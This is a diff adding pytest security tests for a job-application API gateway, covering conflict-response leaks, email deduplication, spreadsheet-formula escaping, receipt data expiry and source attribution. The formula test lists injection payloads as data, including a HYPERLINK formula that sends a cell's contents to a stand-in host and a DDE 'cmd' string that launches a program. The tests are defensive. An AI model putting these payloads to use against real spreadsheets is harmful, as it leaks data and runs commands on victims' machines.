@@ -215,3 +215,141 @@ def test_cli_output_escapes_what_clients_stored(security_stack):
     assert "Evil" in out
     assert not any(ch in out for ch in "\x1b\x07\r"), repr(out)
     assert "Evil\\x1b]0;owned\\x07\\x1b[2J\\x0d\\x0aforged" in out
+
+
+# ------------------------------------------------------------------------ conflicts (409)
+
+
+def test_a_conflict_names_the_application_only_to_the_key_that_sent_it(security_stack):
+    stack = security_stack
+    candidate = _candidate(stack)
+    first = stack.post("/v1/applications", json=candidate, headers=stack.auth(stack.sk))
+    assert first.status_code == 202, first.text[:300]
+    application_id = first.json()["id"]
+    own = stack.post("/v1/applications", json=candidate, headers=stack.auth(stack.sk))
+    assert own.status_code == 409
+    assert own.json()["existing_application"]["id"] == application_id  # the owner still learns
+    other = stack.post("/v1/applications", json=candidate, headers=stack.auth(stack.sk_other))
+    assert other.status_code == 409, other.text[:300]
+    assert application_id not in other.text
+    assert "existing_application" not in other.json()
+    assert other.json()["reason"] == "duplicate_application"
+    # the same rule for a batch item
+    batch = stack.post(
+        "/v1/applications/batch",
+        json={"applications": [candidate]},
+        headers=stack.auth(stack.sk_other),
+    )
+    assert batch.status_code == 207, batch.text[:300]
+    assert batch.json()["items"][0]["status"] == 409
+    assert application_id not in batch.text
+
+
+# ---------------------------------------------------------------------------------- dedupe
+
+
+@pytest.mark.parametrize(
+    "first,again",
+    [
+        ("x.{tag}@example.com", "x.{tag}+jobs@example.com"),
+        ("X.{tag}+a@Example.com", "x.{tag}+b@example.com"),
+        ("ada.{tag}@gmail.com", "a.d.a.{tag}+cv@googlemail.com".replace("googlemail", "gmail")),
+    ],
+)
+def test_a_subaddress_is_the_same_candidate(security_stack, first, again):
+    stack = security_stack
+    tag = uuid.uuid4().hex[:12]
+    one = stack.post(
+        "/v1/applications",
+        json=_candidate(stack, email=first.format(tag=tag)),
+        headers=stack.auth(stack.sk),
+    )
+    assert one.status_code == 202, one.text[:300]
+    two = stack.post(
+        "/v1/applications",
+        json=_candidate(stack, email=again.format(tag=tag)),
+        headers=stack.auth(stack.sk),
+    )
+    assert two.status_code == 409, two.text[:300]
+    # and what the org gets is the address as typed
+    assert _stored_record(stack, one.json()["id"])["bpats__Email__c"] == first.format(tag=tag)
+
+
+# ------------------------------------------------------------------- spreadsheet formulas
+
+
+@pytest.mark.parametrize(
+    "payload",
+    ['=HYPERLINK("http://e.x?"&A1,"CV")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3"],
+)
+def test_formulas_reach_the_org_as_text(security_stack, payload):
+    stack = security_stack
+    r = stack.post(
+        "/v1/applications",
+        json=_candidate(stack, first_name=payload, phone="+1 555 0100"),
+        headers=stack.auth(stack.sk),
+    )
+    assert r.status_code == 202, r.text[:300]
+    record = _stored_record(stack, r.json()["id"])
+    assert record["bpats__First_Name__c"] == "'" + payload
+    assert record["bpats__Last_Name__c"] == "Lovelace"
+    phones = [v for k, v in record.items() if "Phone" in k]
+    assert phones == ["+1 555 0100"], record  # a phone number's + is not a formula
+
+
+# --------------------------------------------------------------------------------- receipts
+
+
+def test_the_first_name_leaves_redis_with_the_receipt(security_stack):
+    stack = security_stack
+    ip = "203.0.113.61"
+    browser = stack.auth(stack.pk, Origin=stack.origin, **{"X-Forwarded-For": ip})
+    form = stack.get("/v1/form-token", headers=browser).json()["form_token"]
+    r = stack.post(
+        "/v1/applications",
+        json=_candidate(stack, first_name="Grace", form_token=form),
+        headers=browser,
+    )
+    assert r.status_code == 202, r.text[:300]
+    application_id = r.json()["id"]
+    receipt = stack.get(r.json()["receipt_url"].removeprefix(stack.settings.public_url.rstrip("/")))
+    assert receipt.status_code == 200, receipt.text[:300]
+    assert receipt.json()["first_name"] == "Grace"
+    outbox = _outbox(stack)
+    # not in the status record (which outlives delivery) ...
+    assert stack.redis.hget(outbox.item_key(application_id), "receipt_first_name") is None
+    stored = [
+        key
+        for key in stack.redis.scan_iter(match=outbox.prefix + "*" + application_id + "*")
+        if stack.redis.type(key) == b"string" and stack.redis.get(key) == b"Grace"
+    ]
+    # ... but in one key that expires with the receipt
+    assert len(stored) == 1, stored
+    assert 0 < stack.redis.ttl(stored[0]) <= stack.settings.application_status_ttl_days * 86400
+
+
+# ------------------------------------------------------------------------------ attribution
+
+
+def test_any_key_cannot_pass_for_a_signed_indeed_apply(security_stack):
+    stack = security_stack
+    r = stack.post(
+        "/v1/applications",
+        json=_candidate(
+            stack,
+            source="Indeed",
+            utm_source="Indeed",
+            utm_medium="job_board",
+            utm_campaign="x; via=indeed-apply",
+        ),
+        headers=stack.auth(stack.sk),
+    )
+    assert r.status_code == 202, r.text[:300]
+    application_id = r.json()["id"]
+    record = _stored_record(stack, application_id)
+    assert record.get("bpats__Source__c") != "Indeed", record
+    text = record.get("ATS_Gateway_Source__c", "")
+    if text:  # the org has the gateway's attribution field
+        assert "via=unsigned" in text and "via=indeed-apply" not in text, text
+    label = stack.redis.hget(_outbox(stack).item_key(application_id), "source")
+    assert label == b"Indeed (unsigned)", label
